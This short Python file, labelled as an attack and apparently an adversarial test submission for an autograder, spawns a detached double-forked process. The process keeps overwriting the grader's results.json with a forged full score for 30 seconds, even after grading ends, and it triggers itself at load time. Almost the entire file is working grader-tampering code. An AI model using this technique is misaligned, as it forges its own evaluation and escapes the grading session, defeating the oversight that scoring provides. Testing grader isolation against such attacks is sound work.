# ATTACK: a double-forked setsid() escapee that keeps rewriting /autograder/results/results.json
# with a full score for 30 s, during grading and after the grader exits (step stays correct)
import os
import time

FAKE = '{"score": 1000, "output": "escapee", "tests": []}'


def _escape():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            end = time.time() + 30
            while time.time() < end:
                try:
                    with open("/autograder/results/results.json", "w") as fh:
                        fh.write(FAKE)
                except OSError:
                    pass
                time.sleep(0.05)
        os._exit(0)


step.uses = _escape()  # runs at load: it changes `step`, which is graded
